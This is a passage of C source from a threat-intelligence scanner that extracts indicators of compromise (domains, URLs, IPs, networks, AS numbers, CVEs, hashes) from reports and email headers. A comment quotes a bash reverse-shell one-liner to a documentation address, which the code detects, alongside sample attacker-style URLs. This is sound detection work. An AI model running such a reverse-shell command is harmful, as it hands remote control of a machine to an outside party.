	    !domain_ok(sc, t + a, h - a, defanged(sc, a, h)))
		return 0;	/* (the first again: sc->value) */
	emit(sc, IOC_DOMAIN, sc->value.data, a, h, IOC_PUBLIC);
	return slash_hosts(sc, h, b, 1);
}

/* A port and the path after it at t[h..b), ":8080/gate.php": the
 * port's length with its colon (1 to 65535, five digits at most); 0
 * when there is none, or no path after it. */
static size_t
port_path(const struct ioc_scanner *sc, size_t h, size_t b)
{
	const char *t = sc->text.data;
	size_t k;
	unsigned long port = 0;

	if (h >= b || t[h] != ':')
		return 0;
	for (k = h + 1; k < b && k < h + 6 &&
	    (sc->cls[(unsigned char)t[k]] & C_DIGIT); k++)
		port = port * 10 + (unsigned long)(t[k] - '0');
	return k < b && t[k] == '/' && port >= 1 && port <= 65535 ? k - h : 0;
}

/*
 * A host with a path and no scheme at t[a..), the host t[a..h) checked
 * and written as host (of type and class), a port between them or not:
 * "evil.com/login.php?id=1", "198.51.100.7:8080/gate.php". A name's is
 * a link, the URL a browser opens (http://, ftp:// for a name that
 * starts "ftp."), then the name: where a shortener's or a platform's
 * link ("bit.ly/3xYz9Ab", "pastebin.com/raw/x") is the abuse, its name
 * alone would be a takedown of the service. An address's is a link
 * when the writer defanged it, or a port, a second step, a query or a
 * file's extension says so ("198.51.100.7/bins/x.arm",
 * "198.51.100.7:8080/gate"); else the address alone
 * ("198.51.100.7/eth0", a table's "198.51.100.7/CN", a rating's
 * "1.2.3.6/24.5"). A CVE id in the path is one, as in a URL's
 * ("nvd.nist.gov/vuln/detail/CVE-..."). The URL may end past the token
 * (a query's "=" cuts one), and where it ends depends on what follows:
 * not for the memo. A path of "/" alone makes no URL, nor does a host
 * after "/" or "@" (another scheme's, "ldap://", "git+ssh://git@", or a
 * rule's pattern, "https?:\/\/evil\.com\/x").
 */
static void
host_path(struct ioc_scanner *sc, size_t a, size_t h, int defanged,
    enum ioc_type type, const char *host, enum ioc_class class)
{
	const char *t = sc->text.data;
	struct buf *url = &sc->url;
	size_t e = url_end(sc, a), p = h + port_path(sc, h, e);
	size_t k;
	int link = defanged || type == IOC_DOMAIN || p > h;

	for (k = p + 1; !link && k < e; k++)	/* not "/24.5" */
		link = t[k] == '/' || t[k] == '?' || (t[k] == '.' &&
		    k + 1 < e && (sc->cls[(unsigned char)t[k + 1]] &
		    (C_ALNUM | C_DIGIT)) == C_ALNUM);
	sc->memo_outside = 1;
	if (link && e > p + 1 && (a == 0 || (t[a - 1] != '/' &&
	    t[a - 1] != '@'))) {
		buf_reset(url);
		buf_addstr(url, type == IOC_DOMAIN &&
		    strncmp(host, "ftp.", 4) == 0 ? "ftp://" : "http://");
		buf_addstr(url, host);
		url_rest(url, t, h, e);
		emit(sc, IOC_URL, url->data, a, e, class);
	}
	emit(sc, type, host, a, h, class);
	url_cves(sc, h, e);
	url_hashes(sc, h, e, 0);
}

/*
 * The slash before an AS number that ends the token t[a..b), after
 * something else: "198.51.100.7/AS4134", "evil.com/AS4134", "CN/AS4134"
 * (a table's country and network), a list after the number too,
 * "CN/AS4134/4837". 0 when there is none. What is before it and the AS
 * number are each a token. A path that goes on after it is a link's,
 * "www.evil.com/AS1234/index.html", and a URL's is read before (scan).
 */
static size_t
slash_asn(const struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	const char *s = memchr(t + a, '/', b - a);
	size_t k, p, e;
	unsigned long long v;

	for (; s != NULL; s = memchr(t + k + 1, '/', b - k - 1)) {
		k = (size_t)(s - t);
		p = k + 3;
		if (p >= b || t[k + 1] != 'A' || t[k + 2] != 'S')
			continue;
		if (t[p] == 'N')
			p++;
		if (p < b && t[p] == ':')
			p++;
		/* the number, and a list after it, to the token's end
		 * (token() trimmed a sentence's) */
		if (p < b && (e = asn_number(sc, p, &v)) != p &&
		    asn_list(sc, e, b) == b)
			return k;
	}
	return 0;
}

/*
 * A reverse zone's name, as a registry's "domain:" object or a
 * resolver's log writes it: the network it stands for, not a name to
 * notify a registrar of. "100.51.198.in-addr.arpa" is 198.51.100.0/24
 * (one to three octets, the other way round; four, an address, are
 * try_ipv4's: "7.100.51.198.in-addr.arpa"); in ip6.arpa, each nibble a
 * label, fewer than 32 a network ("8.b.d.0.1.0.0.2.ip6.arpa" is
 * 2001:db8::/32), 32 an address. The name is sc->value (checked,
 * lowercase); 1 when it was such a name (emitted for t[a..b)), 0 for
 * any other (RFC 2317's "0-25.100.51.198.in-addr.arpa" is a name).
 */
static int
arpa_network(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *s = sc->value.data;
	size_t n = sc->value.len, i = 0, k = 0, c;
	unsigned char bytes[16] = { 0 }, x[32];
	unsigned octet;
	int d;
	char v[IPADDR_V6_MAX + 4], *end;

	if (n > 13 && memcmp(s + n - 13, ".in-addr.arpa", 13) == 0) {
		for (n -= 13; i < n && k < 3; k++, i++) {
			for (c = i, octet = 0; i < n && i < c + 3 &&
			    s[i] >= '0' && s[i] <= '9'; i++)
				octet = octet * 10 + (unsigned)(s[i] - '0');
			if (i == c || octet > 255 || (s[c] == '0' &&
			    i > c + 1) || (i < n && s[i] != '.'))
				return 0;	/* "01", "256", "0-25" */
			x[k] = (unsigned char)octet;
		}
		if (i < n)
			return 0;
		for (c = 0; c < k; c++)
			bytes[c] = x[k - 1 - c];
		format_bits(ipaddr_format4(bytes, v), 8 * k);
		emit(sc, IOC_CIDR, v, a, b, class4((uint32_t)bytes[0] << 24 |
		    (uint32_t)bytes[1] << 16 | (uint32_t)bytes[2] << 8));
		return 1;
	}
	if (n > 9 && memcmp(s + n - 9, ".ip6.arpa", 9) == 0) {
		for (n -= 9; i < n && k < 32; k++, i += 2) {
			if ((d = hex_digit((unsigned char)s[i])) < 0 ||
			    (i + 1 < n && s[i + 1] != '.'))
				return 0;
			x[k] = (unsigned char)d;
		}
		if (i < n)
			return 0;
		for (c = 0; c < k; c++)
			bytes[c / 2] |= (unsigned char)(x[k - 1 - c] <<
			    (c % 2 ? 0 : 4));
		end = ipaddr_format6(bytes, v);
		if (k < 32)
			format_bits(end, 4 * k);
		emit(sc, k < 32 ? IOC_CIDR : IOC_IPV6, v, a, b,
		    class6(bytes));
		return 1;
	}
	return 0;
}

/* The words ending at t[k] are a site's verb: one visits a host, not a
 * file ("visit", "visited", "visiting", "browse to", "navigate to",
 * "redirects to", "redirected to"). */
static int
site_verb(const struct ioc_scanner *sc, size_t k)
{
	switch (sc->text.data[k - 1] | 0x20) {
	case 't': case 's': case 'd': case 'g':
		return word_before(sc, k, "visit") ||
		    word_before(sc, k, "visits") ||
		    word_before(sc, k, "visited") ||
		    word_before(sc, k, "visiting");
	case 'o':
		if (!word_before(sc, k, "to") || k < 4 ||
		    sc->text.data[k - 3] != ' ')
			return 0;
		k -= 3;
		return word_before(sc, k, "browse") ||
		    word_before(sc, k, "navigate") ||
		    word_before(sc, k, "redirect") ||
		    word_before(sc, k, "redirects") ||
		    word_before(sc, k, "redirected");
	default:
		return 0;
	}
}

/* Whether t[a] is in a CSV report's host cell (csv_cells). */
static int
host_cell(const struct ioc_scanner *sc, size_t a)
{
	size_t lo = 0, hi = sc->nhosts, mid;

	while (lo < hi) {	/* the first cell ending after a */
		mid = lo + (hi - lo) / 2;
		if (sc->hosts[2 * mid + 1] <= a)
			lo = mid + 1;
		else
			hi = mid;
	}
	return lo < sc->nhosts && sc->hosts[2 * lo] <= a;
}

/*
 * Whether the words before t[a] say that a host follows: a field's key
 * or a command that takes one ("Domain: ", "\"hostname\": \"", WHOIS's
 * "Domain Name: ", an HTTP request's "Host: ", "dig ", "nslookup ",
 * "whois ", "ping ", Chinese "域名：" and "主机"; a site's "visit",
 * "browse to", "redirects to", "访问", "跳转到"), or a CSV report's
 * host column holds it (host_cell). Then a name that reads as a file's
 * or code's is a host ("Domain: evil-bank.pl").
 */
static int
host_said(const struct ioc_scanner *sc, size_t a)
{
	static const char *const words[] = {
		"domain", "domains", "domain name", "hostname", "host",
		"fqdn", "dig", "nslookup", "whois", "ping", NULL,
	};
	static const char *const cjk[] = {
		"域名", "主机", "访问", "跳转到", "跳转至", "重定向到", NULL,
	};
	const char *t = sc->text.data;
	size_t k = a, i, n;

	if (sc->nhosts && host_cell(sc, a))
		return 1;
	while (k > 0 && a - k < 8 && (t[k - 1] == ' ' || t[k - 1] == '\t' ||
	    t[k - 1] == '"' || t[k - 1] == '\'' || t[k - 1] == ':' ||
	    t[k - 1] == '='))
		k--;
	if (k >= 3 && memcmp(t + k - 3, "\xef\xbc\x9a", 3) == 0)
		k -= 3;	/* a full-width colon */
	if (k > 0 && (unsigned char)t[k - 1] >= 0x80) {
		for (i = 0; cjk[i]; i++)
			if (k >= (n = strlen(cjk[i])) &&
			    memcmp(t + k - n, cjk[i], n) == 0)
				return 1;
		return 0;
	}
	switch (k < 2 ? 0 : t[k - 1] | 0x20) {
	case 'n': case 's': case 'e': case 't': case 'g': case 'p':
		break;
	case 'd': case 'o':
		return site_verb(sc, k);
	default:
		return 0;	/* no word's last letter ("and", "at") */
	}
	for (i = 0; words[i]; i++)
		if (word_before(sc, k, words[i]) && ((n = strlen(words[i])) ==
		    k || (t[k - n - 1] != '.' && t[k - n - 1] != '_' &&
		    t[k - n - 1] != '-')))
			return 1;	/* not a field's "server.host = " */
	return site_verb(sc, k);
}

/* The host of bash's network path at t[h..b), after "/dev/tcp/" or
 * "/dev/udp/" (a reverse shell's "bash -i >& /dev/tcp/203.0.113.5/4444
 * 0>&1"): an address or a name, its port after a slash left out. */
static void
dev_socket(struct ioc_scanner *sc, size_t h, size_t b)
{
	const char *t = sc->text.data;
	const char *slash = memchr(t + h, '/', b - h);
	size_t e = slash ? (size_t)(slash - t) : b;

	if (e > h && (sc->cls[(unsigned char)t[h]] & C_DIGIT) &&
	    try_ipv4(sc, h, e))
		return;
	if (e > h && domain_ok(sc, t + h, e - h, 1))
		emit(sc, IOC_DOMAIN, sc->value.data, h, e, IOC_PUBLIC);
}

/* host_said, the question noted for the memo. */
static int
memo_host_said(struct ioc_scanner *sc, size_t a)
{
	int yes = host_said(sc, a);

	memo_note(sc, a, HS_MASK, yes ? HS_YES : HS_NO);
	return yes;
}

/* A token t[a..b) with no blank inside: try each shape. marks: the
 * C_MARK, C_DOT, C_COLON and C_AT bits of its bytes ORed (a mark's bit
 * unset: the token has none, and is not searched for it). */
static void
token(struct ioc_scanner *sc, size_t a, size_t *bp, unsigned marks)
{
	const char *t = sc->text.data, *p;
	size_t b = *bp, h, k;
	uint32_t addr;
	int context = 0, emphasis = 0, mailto = 0;

	if (plain_word(sc, a, b, marks))
		return;

	while (b > a && ((sc->cls[(unsigned char)t[b - 1]] & C_RTRIM) ||
	    (t[b - 1] == ':' && (b - 1 == a || t[b - 2] != ':'))))
		emphasis |= t[--b] == '_';
	/* "_evil.com_" is Markdown's emphasis, "_dmarc.evil.com" a name
	 * (DNS's service labels: "_acme-challenge", "_sip._tcp") */
	while (a < b && (sc->cls[(unsigned char)t[a]] & C_LTRIM) &&
	    (t[a] != '_' || emphasis || t[a + 1] == '_'))
		a++;
	/* "http ://evil.com", "hxxp ://": a scheme's blank defangs it; the
	 * host still is one */
	if (b - a > 3 && t[a] == ':' && t[a + 1] == '/' && t[a + 2] == '/')
		a += 3;
	else if (((t[a] | 0x20) == 'h' || (t[a] | 0x20) == 'f') &&
	    (k = colonless_scheme(t, a, b)) != 0)
		a = k;
	if (b - a < 2)
		return;
	if (mime_boundary(sc, a) || contact_value(sc, a))
		return;
	if (rule_url(sc, a))
		return;
	if ((marks & C_DOT) && b - a > 11 && t[a] == 'd' &&
	    (memcmp(t + a, "dev/tcp/", 8) == 0 ||
	    memcmp(t + a, "dev/udp/", 8) == 0)) {
		dev_socket(sc, a + 8, b);
		return;
	}
	if (b - a == 13 && t[b] == ',' && rule_cve(sc, a, b))
		return;
	if ((marks & C_COLON) && (k = word_colon(sc, a, b)) != 0) {
		/* RFC 2392: cid: and mid: name a part or a message */
		if (k - a == 4 && (ci_prefix(t + a, 4, "cid:") ||
		    ci_prefix(t + a, 4, "mid:")))
			return;
		mailto = k - a == 7 && (t[a] | 0x20) == 'm' &&
		    ci_prefix(t + a, 7, "mailto:");
		a = k;	/* "ip:192.0.2.1", "mailto:abuse@example.com" */
		/* the words before the value decide too ("Serial
		 * Number:<hex>" is no digest), which key_context asks
		 * of the token's start: not remembered */
		sc->memo_outside = 1;
	}
	if ((marks & C_COLON) && (k = other_scheme(sc, a, b)) != 0) {
		if (k >= b)
			return;
		a = k;
	}
	if ((k = slash_asn(sc, a, b)) != 0) {
		/* "198.51.100.7/AS4134", "CN/AS4134": two tokens */
		h = k;
		token(sc, a, &h, marks);
		h = b;
		token(sc, k + 1, &h, marks);
		return;
	}
	if ((marks & C_AT) && (p = memchr(t + a, '@', b - a)) != NULL) {
		try_email(sc, a, (size_t)(p - t), (size_t)(p - t) + 1, b);
		return;
	}
	if (mailto && (p = memmem(t + a, b - a, "%40", 3)) != NULL) {
		try_email(sc, a, (size_t)(p - t), (size_t)(p - t) + 3, b);
		return;	/* "mailto:abuse%40evil.com": a link's */
	}
	if ((t[a] == 'C' || t[a] == 'c') && b - a >= 13) {
		if (try_cve(sc, a, b))
			return;
		url_cves(sc, a, b);	/* "CVE-2021-44228-poc" */
	}
	if (t[a] == 'A' && try_asn(sc, a, bp))
		return;
	if ((b - a == 40 || b - a == 64) && pgp_fingerprint(sc, a))
		return;	/* a key's, not a sample's ("fpr:" is word_colon's) */
	/* "E=#7465...": RFC 4514 writes an X.509 name's value so, in hex
	 * (an address of 16 bytes is a "hash" of 32) */
	if ((b - a == 32 || b - a == 40 || b - a == 64 || b - a == 128) &&
	    !(a >= 2 && t[a - 1] == '#' && t[a - 2] == '=') &&
	    try_hash(sc, a, b))
		return;
	if ((marks & C_COLON) && b - a >= 47 && t[a + 2] == ':' &&
	    try_colon_hash(sc, a, b))
		return;
	if (t[a] == '[' || ((marks & C_COLON) && memchr(t + a, ':', b - a))) {
		size_t c = 0;

		for (k = a; k < b; k++)
			c += t[k] == ':';
		if (c >= 2 && try_ipv6(sc, a, b))
			return;
	}
	if ((sc->cls[(unsigned char)t[a]] & C_DIGIT) && try_ipv4(sc, a, b))
		return;
	if (!(marks & C_DOT) || !memchr(t + a, '.', b - a))
		return;
	for (h = a; h < b && !(sc->cls[(unsigned char)t[h]] & C_HOSTEND); h++)
		;
	context = defanged(sc, a, h);
	while (h > a && t[h - 1] == '.')
		h--;
	if (h == b && code_context(sc, a, h))
		return;	/* (memo_context let no memo answer here) */
	if (h == b && checksum_context(sc, a, h))
		return;	/* (nor here) */
	/* a name that is a host only where the text says so, and says so
	 * in the words before it (asked again where the memo answers) */
	if (h > a && (domain_ok(sc, t + a, h - a, context) ||
	    (sc->name_said && memo_host_said(sc, a) &&
	    domain_ok(sc, t + a, h - a, 1)))) {
		if (h < b && (t[h] == '/' || port_path(sc, h, b))) {
			if (!slash_names(sc, a, h, b))
				host_path(sc, a, h, context, IOC_DOMAIN,
				    sc->value.data, class_dns(sc->value.data, sc->value.len));
			return;
		}
		if (sc->value.data[sc->value.len - 1] == 'a' &&
		    arpa_network(sc, a, h))
			return;
		emit(sc, IOC_DOMAIN, sc->value.data, a, h, IOC_PUBLIC);
	} else if ((sc->cls[(unsigned char)t[a]] & C_DIGIT) &&
	    (k = parse_ipv4(t + a, b - a, &addr)) != 0 && a + k + 1 < b &&
	    t[a + k] == '.' && !(sc->cls[(unsigned char)t[a + k + 1]] &
	    C_DIGIT))
		try_ipv4(sc, a, a + k);	/* "1.2.3.4.The": no name */
	else if (b - a >= 15 && (t[a] | 0x20) != 'c' &&
	    memmem(t + a, b - a, "CVE", 3) != NULL)	/* (a "CVE-..." was) */
		url_cves(sc, a, b);	/* "Exploit.Win32.CVE-2017-0199.a" */
	else if (b - a >= 16 && memchr(t + a, '%', b - a) != NULL)
		note_encoded(sc, a, b);	/* "http%3A%2F%2F..." */
}

/*
 * LACNIC's WHOIS writes a network with its zero octets left off
 * ("inetnum: 200.160/12", "inetrev: 177.0.0/15"; RFC 1518's
 * abbreviation): the network, read where such a field starts its line
 * (at t[i]). A token of that shape elsewhere is no network: "4.5/10" is
 * a rating. The written octets hold the prefix, and no host bit is set.
 * lacnic_line: whether the line at t[i] is such a field.
 */
static int
lacnic_line(const struct ioc_scanner *sc, size_t i)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len;

	return (t[i] | 0x20) == 'i' && (ci_prefix(t + i, n - i, "inetnum:") ||
	    ci_prefix(t + i, n - i, "inetrev:"));
}

/* The network of the field lacnic_line found at t[i], if it is one:
 * its octets made four (ipaddr_pad4) and read as parse_ipv4 reads
 * any. */
static void
lacnic_network(struct ioc_scanner *sc, size_t i)
{
	const char *t = sc->text.data;
	size_t a, p, d, len, bits = 0, e = sc->text.len;
	uint32_t addr;
	char v[32];

	for (a = i + 8; a < e && (t[a] == ' ' || t[a] == '\t'); a++)
		;
	for (p = a; p < e && (t[p] == '.' ||
	    (sc->cls[(unsigned char)t[p]] & C_DIGIT)); p++)
		;
	if (p >= e || t[p] != '/')
		return;
	for (d = ++p; p < e && p < d + 2 &&
	    (sc->cls[(unsigned char)t[p]] & C_DIGIT); p++)
		bits = bits * 10 + (size_t)(t[p] - '0');
	if (p == d || (p < e && t[p] != ' ' && t[p] != '\t' &&
	    t[p] != '\r' && t[p] != '\n'))
		return;
	/* four octets (token() reads them) or too few for bits: none */
	if ((len = ipaddr_pad4(t + a, d - 1 - a, bits, v)) == 0 ||
	    parse_ipv4(v, len, &addr) != len || (addr & ~prefix_mask4(bits)))
		return;
	format_bits(format4(v, addr), bits);
	emit(sc, IOC_CIDR, v, a, p, class4(addr));
}

/* A blank or a line break, between a header field's words. */
static int
hdr_blank(char c)
{
	return fold_blank(c) || c == '\n';
}

#define LOWER_BUF 256	/* a name's 253 bytes and more */

/* s (n bytes) lowercased (ASCII letters: the maps' keys are), into buf
 * (LOWER_BUF bytes) when it fits, else into a copy the caller frees
 * (what is returned is not buf). */
static char *
lower_copy(const char *s, size_t n, char buf[LOWER_BUF])
{
	char *c = n < LOWER_BUF ? buf : xmalloc(n + 1);
	size_t k;

	for (k = 0; k < n; k++)
		c[k] = (char)(s[k] >= 'A' && s[k] <= 'Z' ? s[k] - 'A' + 'a' :
		    s[k]);
	c[n] = '\0';
	return c;
}


/* A part of a pasted header field whose tokens give nothing (see
 * hdr_names), until the next field replaces them. */
static void
skip_range(struct ioc_scanner *sc, size_t a, size_t b)
{
	if (sc->nskips == HDR_SKIPS)
		return;
	sc->skips[sc->nskips][0] = a;
	sc->skips[sc->nskips++][1] = b;
	sc->skip_hi = b;	/* they come in the text's order */
}

/* Whether the token at t[a] is in a skip_range. */
static int
skipped(const struct ioc_scanner *sc, size_t a)
{
	unsigned k;

	if (a >= sc->skip_hi)
		return 0;	/* every token after the last pasted field */
	for (k = 0; k < sc->nskips; k++)
		if (a >= sc->skips[k][0] && a < sc->skips[k][1])
			return 1;
	return 0;
}

/* The word at t[k] of a field ending at e, after blanks, line breaks and
 * a quote's '>'s: a name, an address or "[...]", up to a blank, '(',
 * ')' or ';'. Its start; its end in *end. */
static size_t
hdr_word(const char *t, size_t k, size_t e, size_t *end)
{
	size_t a;

	while (k < e && (hdr_blank(t[k]) || t[k] == '>'))
		k++;
	for (a = k; k < e && !hdr_blank(t[k]) && t[k] != '(' && t[k] != ')' &&
	    t[k] != ';'; k++)
		;
	*end = k;
	return a;
}

/* Whether the names t[a..b) and t[c..d) are under one registrable
 * domain (libpsl's): two servers of one operator. */
static int
same_operator(const struct ioc_scanner *sc, size_t a, size_t b, size_t c,
    size_t d)
{
	const char *t = sc->text.data, *x, *y;
	char one[LOWER_BUF], two[LOWER_BUF];

	while (b > a && t[b - 1] == '.')
		b--;	/* "mail-sor-f41.google.com." */
	while (d > c && t[d - 1] == '.')
		d--;
	if (b == a || b - a >= LOWER_BUF || d == c || d - c >= LOWER_BUF)
		return 0;	/* (lower_copy writes into the buffers) */
	x = psl_registrable_domain(sc->psl, lower_copy(t + a, b - a, one));
	y = psl_registrable_domain(sc->psl, lower_copy(t + c, d - c, two));
	return x != NULL && y != NULL && strcmp(x, y) == 0;
}

/*
 * A Received field's value t[v..e): where its "by" clause starts (the
 * receiver, then "with", "id", "for <recipient>" and the date), at
 * depth 0 of its comments ("(qmail 1234 invoked by uid 48)" holds
 * none); e when it has none. In *inside, 1 when the hop is between
 * two servers of one operator: its "from" name and the name the
 * receiver looked up for the sender's address (in the comment after
 * it) are under the "by" name's registrable domain. The looked-up name
 * is the address owner's word; without it ("([203.0.113.5])", Office
 * 365's "(2603:10b6:...)") the "from" name, which the sender chose, is
 * not taken for the operator's.
 */
static size_t
received_by(const struct ioc_scanner *sc, size_t v, size_t e, int *inside)
{
	const char *t = sc->text.data;
	size_t k, by = e, f, fe, r = 0, re = 0, h, he;
	int depth = 0;

	*inside = 0;
	for (k = v; k + 2 < e && by == e; k++) {
		if (t[k] == '(' && depth++ == 0 && r == 0)
			r = hdr_word(t, k + 1, e, &re);	/* the first */
		else if (t[k] == ')' && depth > 0)
			depth--;
		else if (depth == 0 && (t[k] | 0x20) == 'b' &&
		    (t[k + 1] | 0x20) == 'y' && hdr_blank(t[k + 2]) &&
		    (k == v || hdr_blank(t[k - 1])))
			by = k;	/* not "hobby": a HELO name is any word */
	}
	if (by == e || !ci_prefix(t + v, e - v, "from "))
		return by;
	f = hdr_word(t, v + 5, by, &fe);
	h = hdr_word(t, by + 2, e, &he);
	/* the looked-up name: "(mail-sor-f41.google.com. [209.85.220.41])";
	 * none (no registrable domain) in "([203.0.113.5])",
	 * "(2603:10b6:5:1a2::3)" or "(unknown [...])" */
	*inside = same_operator(sc, r, re, h, he) &&
	    same_operator(sc, f, fe, h, he);
	return by;
}

/* A results field's t[v..e) (Authentication-Results, ARC's; Received-SPF
 * with spf 1): the server's name that starts it ("mx.google.com;", after
 * ARC's "i=1;"; not SPF's), the server's name in a comment ("(google.com:
 * domain of ...)"; not "(mail.evil.com)", iprev's sender) and SPF's
 * "receiver=": skip_range. */
static void
results_skips(struct ioc_scanner *sc, size_t v, size_t e, int spf)
{
	const char *t = sc->text.data;
	size_t k, a, b;

	const char *semi;

	if (!spf) {
		if (v + 1 < e && (t[v] | 0x20) == 'i' && t[v + 1] == '=')
			v = (semi = memchr(t + v, ';', e - v)) != NULL ?
			    (size_t)(semi - t) + 1 : e;	/* ARC's "i=1;" */
		a = hdr_word(t, v, e, &b);
		skip_range(sc, a, b);
	}
	for (k = v; k < e; k++) {
		if (t[k] == '(') {
			a = hdr_word(t, k + 1, e, &b);
			if (b > a + 1 && t[b - 1] == ':')
				skip_range(sc, a, b);
		} else if ((t[k] | 0x20) == 'r' &&
		    ci_prefix(t + k, e - k, "receiver=")) {
			a = hdr_word(t, k + 9, e, &b);
			skip_range(sc, a, b);
		}
	}
}

/* A Received field's value at t[v..e) says a hop: "from ...", "by ...",
 * a comment ("(qmail 1234 invoked by uid 48)"); not "Received: thanks". */
static int
received_hop(const char *t, size_t v, size_t e)
{
	return ci_prefix(t + v, e - v, "from ") ||
	    ci_prefix(t + v, e - v, "by ") || (v < e && t[v] == '(');
}

/* The next field of hdr_names in the field value t[v..e): a header
 * flattened into one line as a web form or a ticket keeps it
 * ("Received: from a (...) by b; date Received: from c ..."), the
 * fields apart by a blank, or glued to a date's digits or a comment's
 * ')' by a capital ("+0000Received:", "(PDT)Received:"). Where it
 * starts (e when none), its kind and value's start. */
static size_t
flat_field(const char *t, size_t v, size_t e, enum hdr *kind, size_t *fv)
{
	size_t k;

	for (k = v + 1; k < e; k++)
		if ((hdr_blank(t[k - 1]) || ((t[k] >= 'A' && t[k] <= 'Z') &&
		    ((t[k - 1] >= '0' && t[k - 1] <= '9') || t[k - 1] == ')' ||
		    t[k - 1] == '>'))) && !hdr_blank(t[k]) &&
		    (*kind = hdr_name_at(t, k, e, fv)) != HDR_NONE)
			return k;
	return e;
}

/* The skip_ranges of the field t[a..e) of kind, its value at t[v]: 1
 * when they are the whole field. */
static int
field_skips(struct ioc_scanner *sc, enum hdr kind, size_t a, size_t v,
    size_t e)
{
	size_t by;
	int inside;

	if (kind == HDR_SKIP) {
		skip_range(sc, a, e);
		return 1;
	}
	if (kind == HDR_RECEIVED) {
		if (!received_hop(sc->text.data, v, e))
			return 0;	/* "Received: thanks": text */
		by = received_by(sc, v, e, &inside);
		skip_range(sc, inside ? a : by, e);
		return inside;
	}
	results_skips(sc, v, e, kind == HDR_SPF);
	return 0;
}

/*
 * skip_line's for a pasted header field of hdr_names at t[i]: past the
 * field when none of it is to be read; i when the line is text (no
 * such field), or when the field is read as text but for its
 * skip_ranges, set here (the tokens waiting in w read first, under the
 * field before's).
 */
static size_t __attribute__((noinline))
pasted_field(struct ioc_scanner *sc, size_t i, struct cuts *w)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, v, e, a, f, fv;
	enum hdr kind = hdr_field(t, i, n, &v), next;
	int whole;

	if (kind == HDR_NONE)
		return i;
	e = hdr_end(t, i, n);
	cuts_read(sc, w);
	sc->nskips = 0;
	sc->skip_hi = 0;
	/* each field up to the next where the header was flattened into
	 * one line (flat_field), read as text but for its skip_ranges */
	for (a = i, f = flat_field(t, v, e, &next, &fv);; a = f, kind = next,
	    v = fv, f = flat_field(t, v, e, &next, &fv)) {
		whole = field_skips(sc, kind, a, v, f);
		if (f == e)
			return whole && a == i ? e : i;	/* one field, gone:
							 * past its lines */
	}
}

/*
 * Lines that are not text a reporter wrote: header fields quoted in a
 * body (their ids look like addresses), PGP armor (base64) and the
 * routers on a traceroute's way (hop_on_the_way). At a line
 * start: where scanning resumes, i itself when the line is text. A
 * LACNIC network's line is read here too (lacnic_network), after the
 * tokens waiting in w.
 */
static size_t
skip_line(struct ioc_scanner *sc, size_t i, int *armor, struct cuts *w)
{
	const char *t = sc->text.data, *nl;
	size_t n = sc->text.len, k;

	if (!*armor && !(sc->cls[(unsigned char)t[i]] & C_LINESTART))
		return i;	/* the usual case: no such line */
	if (!*armor && lacnic_line(sc, i)) {
		cuts_read(sc, w);	/* what came before it first */
		lacnic_network(sc, i);
		return i;
	}
	if (!*armor && ((t[i] | 0x20) >= 'a' || t[i] == ' ' || t[i] == '\t' ||
	    t[i] == '>') && (k = pasted_field(sc, i, w)) != i)
		return k;	/* (a digit or '-' starts no field; a test of
				 * cls here cost 0.4% at 10 MB) */
	if (!*armor && (t[i] == ' ' || t[i] == '\t' || t[i] == '>' ||
	    (sc->cls[(unsigned char)t[i]] & C_DIGIT)))
		return hop_skip(sc, i);
	nl = memchr(t + i, '\n', n - i);
	k = nl ? (size_t)(nl - t) + 1 : n;
	if (ci_prefix(t + i, n - i, "-----BEGIN PGP ") &&
	    !ci_prefix(t + i, n - i, "-----BEGIN PGP SIGNED MESSAGE"))
		*armor = 1;
	if (*armor) {
		if (ci_prefix(t + i, n - i, "-----END PGP "))
			*armor = 0;
		return k;
	}
	return i;
}

/* A line of PGP armor's base64 (its checksum "=abcd" too). */
static int
armor_base64(const char *t, size_t n)
{
	size_t k;

	for (k = 0; k < n; k++)
		if (!ascii_alnum((unsigned char)t[k]) && t[k] != '+' &&
		    t[k] != '/' && t[k] != '=')
			return 0;
	return n > 0;
}

/* A header field of PGP armor: "Comment: ...", "Hash: SHA256". */
static int
armor_field(const char *t, size_t n)
{
	size_t k = 0;

	while (k < n && (ascii_alnum((unsigned char)t[k]) || t[k] == '-'))
		k++;
	return k > 0 && k + 1 < n && t[k] == ':' && t[k + 1] == ' ';
}

/*
 * Whether the text starts inside PGP armor: a part of a longer input
 * (base > 0, see ioc_scan) cut between an armor's BEGIN line and its
 * END line, which scan would read as text (its "Comment: https://..."
 * a URL). Its lines are then armor's up to an "-----END PGP " line:
 * header fields (first only), a blank line, base64. Anything else
 * first, and the part starts as text.
 */
static int
armor_at_start(const struct ioc_scanner *sc)
{
	const char *t = sc->text.data, *nl;
	size_t n = sc->text.len, i = 0, e, k;
	int fields = 1;

	if (sc->base == 0)
		return 0;
	while (i < n) {
		nl = memchr(t + i, '\n', n - i);
		k = nl ? (size_t)(nl - t) : n;
		e = k > i && t[k - 1] == '\r' ? k - 1 : k;
		if (ci_prefix(t + i, e - i, "-----END PGP "))
			return 1;
		if (e == i || !fields || !armor_field(t + i, e - i)) {
			fields = 0;
			if (e > i && !armor_base64(t + i, e - i))
				return 0;
		}
		i = k + 1;
	}
	return 0;
}

/*
 * The first position from t[i] that an indicator needs: a digit, '.',
 * ':', '@', a byte of UTF-8, or a line end (where skip_line looks).
 * Prose between two such bytes is words: scan steps over them 16 bytes
 * at a time. *blank: past the last blank or tab before that position,
 * when there is one from t[i] on (it is left as it was otherwise).
 */
static int
needed(unsigned char c)
{
	return (c >= '0' && c <= '9') || c == '.' || c == ':' || c == '@' ||
	    c == '\n' || c >= 0x80;
}

static size_t
next_needed(const char *t, size_t n, size_t i, size_t *blank)
{
	unsigned need, blanks;
	v16 a;

	for (; i + 16 <= n; i += 16) {
		memcpy(&a, t + i, 16);	/* needed(), 16 at once */
		need = lanes(((IN_RANGE(a, '.', ':') & (v16)(a != '/')) |
		    (v16)((a == '@') | (a == '\n') | (a >= 0x80))));
		blanks = lanes((v16)((a == ' ') | (a == '\t')));
		if (need)	/* the blanks before the first needed */
			blanks &= (1u << __builtin_ctz(need)) - 1;
		if (blanks)
			*blank = i + (size_t)(31 - __builtin_clz(blanks)) + 1;
		if (need)
			return i + (size_t)__builtin_ctz(need);
	}
	for (; i < n && !needed((unsigned char)t[i]); i++)
		if (t[i] == ' ' || t[i] == '\t')
			*blank = i + 1;
	return i;
}

/*
 * Where scan may go on from a token start t[i] without missing anything:
 * past the last blank before the first byte next_needed finds. The words
